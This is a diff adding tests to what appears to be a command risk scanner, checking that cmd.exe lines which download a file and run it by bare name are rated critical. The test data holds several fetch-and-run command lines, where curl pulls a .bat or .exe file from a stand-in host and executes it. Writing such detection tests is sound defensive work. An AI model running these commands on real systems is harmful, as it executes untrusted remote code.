@@ -129,3 +129,25 @@ describe("a program cmd.exe runs under a name PowerShell has an alias for", () =
     expect(r.risk, r.shown).toBe(risk);
   });
 });
+
+// cmd.exe looks for a program in the current folder before PATH, with or without its extension
+// (PATHEXT): a bare name the line downloaded is that file. PowerShell needs `.\` for it.
+describe("a cmd.exe line runs a file it downloaded by its bare name", () => {
+  it.each<[string, ShellKind]>([
+    ["cmd /c 'curl -o a.bat https://e.com/a & a.bat'", "powershell"],
+    ["cmd /c 'curl -o a.bat https://e.com/a & a'", "powershell"],
+    ["cmd /c 'curl -o a.exe https://e.com/a && a.exe /quiet'", "powershell"],
+    ["cmd /c 'curl.exe -o A.CMD https://e.com/a & a'", "powershell"],
+    ["cmd /c \"curl -o a.bat https://e.com/a & a.bat\"", "bash"],
+    ["cmd /c 'curl -o sc.bat https://e.com/a & sc stop x'", "powershell"],
+  ])("%s (%s) is critical", (command, shell) => {
+    const r = rated(command, shell);
+    expect(r.risk, r.shown).toBe("critical");
+  });
+
+  it("PowerShell does not run a bare name from the current folder", () => {
+    const r = rated("curl.exe -o a.bat https://e.com/a; a.bat", "powershell");
+    expect(r.risk, r.shown).not.toBe("critical");
+    expect(rated("curl.exe -o a.bat https://e.com/a; .\\a.bat", "powershell").risk).toBe("critical");
+  });
+});
